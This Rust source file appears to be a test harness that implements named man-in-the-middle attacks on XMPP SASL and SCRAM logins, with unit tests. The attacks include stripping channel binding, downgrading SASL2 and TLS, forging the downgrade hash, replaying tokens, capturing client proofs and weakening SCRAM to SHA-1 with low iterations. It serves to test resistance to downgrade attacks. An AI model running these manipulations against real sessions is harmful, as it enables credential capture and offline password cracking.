//! What a man in the middle can do to a login: each attack by its name.

use super::{Manner, Up};
use crate::certs::LeafFiles;
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as BASE64;
use sha2::{Digest, Sha256};
use std::sync::{Arc, Mutex, PoisonError};

/// An attack, and what it is called in tables.
pub type Attack = (&'static str, Manner);

/// All of them; `old` is a certificate that the server had once, with its key, if it had.
pub fn all(old: Option<LeafFiles>) -> Vec<Attack> {
    let listening = Manner::listening;
    let mut all = vec![
        ("swap the key only", listening()),
        ("force TLS 1.2", Manner { old_tls: true, ..listening() }),
        ("force TLS 1.2, drop the 0440 element", Manner { old_tls: true, ..altering(without_bindings) }),
        ("strip -PLUS", altering(without_plus)),
        ("strip -PLUS and the 0440 element", altering(|text| without_bindings(&without_plus(text)))),
        ("strip tls-exporter", altering(|text| text.replace("<channel-binding type='tls-exporter'/>", ""))),
        ("name bindings that nobody knows", altering(|text| text.replace("type='tls-", "type='tls-no-"))),
        ("drop the 0440 element", altering(without_bindings)),
        ("strip -PLUS, drop h", altering(|text| challenge(&without_plus(text), |said| without_field(said, "h=")))),
        ("alter h", altering(|text| challenge(text, |said| with_field(said, "h=", "AAAAAAAAAAAAAAAAAAAAAAAAAAA=")))),
        ("strip -PLUS, y into n, forge h", Manner { up: Arc::new(|text| Up::On(unable(text))), ..forging() }),
        ("PLAIN only", altering(plain_only)),
        ("SASL2 down to SASL", altering(|text| without(text, "<authentication", "</authentication>"))),
        (
            "SASL2 down to SASL, strip -PLUS",
            altering(|text| without_plus(&without(text, "<authentication", "</authentication>"))),
        ),
        ("iterations 1", altering(|text| challenge(text, |said| with_field(said, "i=", "1")))),
    ];
    all.extend(old.map(|old| ("replay an old certificate", Manner { leaf: Some(old), ..listening() })));
    all.push(("replay FAST", Manner { up: Arc::new(replaying), ..listening() }));
    // He answers himself, once he has the proof.
    for (name, answer) in [
        ("take the proof, cut", None),
        ("take the proof, claim a passing trouble", Some(failure("temporary-auth-failure"))),
        ("take the proof, claim a wrong password", Some(failure("not-authorized"))),
        (
            "take the proof, ask for a task",
            Some("<continue xmlns='NS'><tasks><task>X</task></tasks></continue>".into()),
        ),
        ("take the proof, claim success", Some("<success xmlns='NS'/>".to_owned())),
    ] {
        all.push((name, Manner { up: Arc::new(move |text| taking(text, answer.as_deref())), ..listening() }));
    }
    let alone = Manner { up: Arc::new(weakest), ..altering(sha_1_only) };
    all.push(("answer alone: SHA-1, a salt of his own, cut", alone));
    all
}

fn altering(down: impl Fn(&str) -> String + Send + Sync + 'static) -> Manner {
    Manner { down: Arc::new(down), ..Manner::listening() }
}

fn failure(condition: &str) -> String {
    format!("<failure xmlns='NS'><{condition} xmlns='urn:ietf:params:xml:ns:xmpp-sasl'/></failure>")
}

/// Strips -PLUS, and makes of it an offer that the server seems to confirm.
fn forging() -> Manner {
    let offer = Mutex::new(String::new());
    altering(move |text| {
        let text = without_plus(text);
        let mut offer = offer.lock().unwrap_or_else(PoisonError::into_inner);
        if text.contains("<mechanism") {
            *offer = heard(&text);
        }
        challenge(&text, |said| with_field(said, "h=", &BASE64.encode(Sha256::digest(offer.as_bytes()))))
    })
}

/// The offer as a client hears it that prefers SASL2 (XEP-0474 §5.1).
fn heard(text: &str) -> String {
    // What goes inline has mechanisms of its own, of tokens.
    let part = match text.split_once("<authentication") {
        Some((_, rest)) => rest.split("<inline").next().unwrap_or(rest),
        None => text,
    };
    let sorted = |mut names: Vec<&str>| {
        names.sort_unstable();
        names.join("\u{1e}")
    };
    let bindings = between(text, "type='tls-", "'").into_iter().map(|name| format!("tls-{name}")).collect::<Vec<_>>();
    let mechanisms = elements(part).into_iter().map(|(_, name)| name).collect();
    format!("{}\u{1f}{}", sorted(mechanisms), sorted(bindings.iter().map(String::as_str).collect()))
}

fn between<'a>(text: &'a str, from: &str, to: &str) -> Vec<&'a str> {
    text.split(from).skip(1).filter_map(|rest| Some(rest.split_once(to)?.0)).collect()
}

/// Each mechanism's element, and its name.
fn elements(text: &str) -> Vec<(&str, &str)> {
    let one = |(start, _)| {
        let rest: &str = &text[start..];
        let element = &rest[..rest.find("</mechanism>")? + "</mechanism>".len()];
        let name = element.split_once('>')?.1.split('<').next()?;
        (!element.starts_with("<mechanisms")).then_some((element, name))
    };
    text.match_indices("<mechanism").filter_map(one).collect()
}

/// Without what stands between these marks, wherever that is.
pub fn without(text: &str, from: &str, to: &str) -> String {
    let mut left = text.to_owned();
    while let Some(start) = left.find(from)
        && let Some(length) = left[start..].find(to)
    {
        left.replace_range(start..start + length + to.len(), "");
    }
    left
}

/// Without the offer to bind a login.
pub fn without_plus(text: &str) -> String {
    let plus = elements(text).into_iter().filter(|(_, name)| name.ends_with("-PLUS"));
    plus.fold(text.to_owned(), |left, (element, _)| left.replace(element, ""))
}

/// Without what the offer says that a login can be bound to (XEP-0440).
pub fn without_bindings(text: &str) -> String {
    without(text, "<sasl-channel-binding", "</sasl-channel-binding>")
}

/// The first of each list's mechanisms becomes this one, the others go.
fn only(text: &str, mechanism: &str) -> String {
    let mut left = without_plus(text);
    for (list, end) in [("<mechanisms", "</mechanisms>"), ("<authentication", "<inline")] {
        let Some(start) = left.find(list) else { continue };
        let Some(length) = left[start..].find(end) else { continue };
        let part = left[start..start + length].to_owned();
        let mut kept = part.clone();
        for (number, (element, name)) in elements(&part).into_iter().enumerate() {
            let to = if number == 0 { element.replace(name, mechanism) } else { String::new() };
            kept = kept.replace(element, &to);
        }
        left = left.replace(&part, &kept);
    }
    left
}

fn plain_only(text: &str) -> String {
    only(text, "PLAIN")
}

fn sha_1_only(text: &str) -> String {
    without_bindings(&only(text, "SCRAM-SHA-1"))
}

/// With each challenge's words altered.
fn challenge(text: &str, alter: impl Fn(&str) -> String) -> String {
    let Some((_, said)) = text.split_once("<challenge").and_then(|(_, rest)| rest.split_once('>')) else {
        return text.to_owned();
    };
    let Some((data, _)) = said.split_once('<') else { return text.to_owned() };
    let Ok(words) = BASE64.decode(data) else { return text.to_owned() };
    text.replace(data, &BASE64.encode(alter(&String::from_utf8_lossy(&words))))
}

fn without_field(words: &str, name: &str) -> String {
    words.split(',').filter(|field| !field.starts_with(name)).collect::<Vec<_>>().join(",")
}

fn with_field(words: &str, name: &str, value: &str) -> String {
    let set = |field: &str| if field.starts_with(name) { format!("{name}{value}") } else { field.to_owned() };
    let mut fields: Vec<String> = words.split(',').map(set).collect();
    if !words.split(',').any(|field| field.starts_with(name)) {
        fields.push(format!("{name}{value}"));
    }
    fields.join(",")
}

/// A first message that says that its sender cannot bind, where it said that it could have.
fn unable(text: &str) -> String {
    let data = between(text, "<initial-response>", "<").into_iter().chain(
        text.split_once("<auth ")
            .and_then(|(_, rest)| rest.split_once('>'))
            .map(|(_, rest)| rest.split('<').next().unwrap_or("")),
    );
    data.fold(text.to_owned(), |text, data| match BASE64.decode(data) {
        Ok(words) if words.starts_with(b"y,,") => {
            text.replace(data, &BASE64.encode([b"n".as_slice(), &words[1..]].concat()))
        }
        _ => text,
    })
}

/// Takes a proof, and answers this or nothing at all.
fn taking(text: &str, answer: Option<&str>) -> Up {
    if !text.contains("<response") {
        return Up::On(text.to_owned());
    }
    let namespace = between(text, "xmlns='", "'").first().copied().unwrap_or_default().to_owned();
    answer.map_or(Up::Cut, |answer| Up::Back(answer.replace("NS", &namespace)))
}

/// Answers a login by token as if it had been seen before: with what a server once said.
fn replaying(text: &str) -> Up {
    if !text.contains("mechanism='HT-") {
        return Up::On(text.to_owned());
    }
    let old = BASE64.encode([7; 32]);
    Up::Back(format!(
        "<success xmlns='urn:xmpp:sasl:2'><additional-data>{old}</additional-data>\
         <authorization-identifier>juliet@verona.test/r</authorization-identifier>\
         <bound xmlns='urn:xmpp:bind:0'/></success>"
    ))
}

/// Challenges whoever begins, without any server, to make guessing as cheap as it can be.
fn weakest(text: &str) -> Up {
    let sasl2 = between(text, "<initial-response>", "<").first().copied();
    let sasl = text
        .split_once("<auth ")
        .and_then(|(_, rest)| rest.split_once('>'))
        .and_then(|(_, rest)| rest.split('<').next());
    let (namespace, data) = match (sasl2, sasl) {
        (Some(data), _) => ("urn:xmpp:sasl:2", data),
        (None, Some(data)) => ("urn:ietf:params:xml:ns:xmpp-sasl", data),
        (None, None) => return taking(text, None),
    };
    let first = BASE64.decode(data).unwrap_or_default();
    let first = String::from_utf8_lossy(&first).into_owned();
    let nonce = first.split("r=").nth(1).unwrap_or_default();
    let challenge = BASE64.encode(format!("r={nonce}x,s=QUFBQQ==,i=4096"));
    Up::Back(format!("<challenge xmlns='{namespace}'>{challenge}</challenge>"))
}

#[cfg(test)]
mod tests {
    use super::*;

    const OFFER: &str = "<mechanisms xmlns='urn:ietf:params:xml:ns:xmpp-sasl'><mechanism>PLAIN</mechanism>\
        <mechanism>SCRAM-SHA-256-PLUS</mechanism></mechanisms><authentication xmlns='urn:xmpp:sasl:2'>\
        <mechanism>SCRAM-SHA-256-PLUS</mechanism><mechanism>SCRAM-SHA-256</mechanism><inline/></authentication>\
        <sasl-channel-binding xmlns='urn:xmpp:sasl-cb:0'><channel-binding type='tls-exporter'/></sasl-channel-binding>";

    #[test]
    fn an_offer_is_cut_down_as_an_attack_says() {
        assert!(!without_plus(OFFER).contains("PLUS") && without_plus(OFFER).contains("PLAIN"));
        assert!(!without_bindings(OFFER).contains("binding"));
        assert_eq!(elements(&plain_only(OFFER)).iter().map(|(_, name)| *name).collect::<Vec<_>>(), ["PLAIN", "PLAIN"]);
        assert_eq!(heard(OFFER), "SCRAM-SHA-256\u{1e}SCRAM-SHA-256-PLUS\u{1f}tls-exporter");
    }

    #[test]
    fn words_of_an_exchange_are_altered_as_an_attack_says() {
        let said = |words: &str| format!("<challenge xmlns='x'>{}</challenge>", BASE64.encode(words));
        assert_eq!(challenge(&said("r=a,h=b"), |words| without_field(words, "h=")), said("r=a"));
        assert_eq!(challenge(&said("r=a,i=4096"), |words| with_field(words, "i=", "1")), said("r=a,i=1"));
        let first = |words: &str| format!("<initial-response>{}</initial-response>", BASE64.encode(words));
        assert_eq!(unable(&first("y,,n=a,r=b")), first("n,,n=a,r=b"));
        assert_eq!(unable(&first("p=x,,n=a,r=b")), first("p=x,,n=a,r=b"));
    }
}
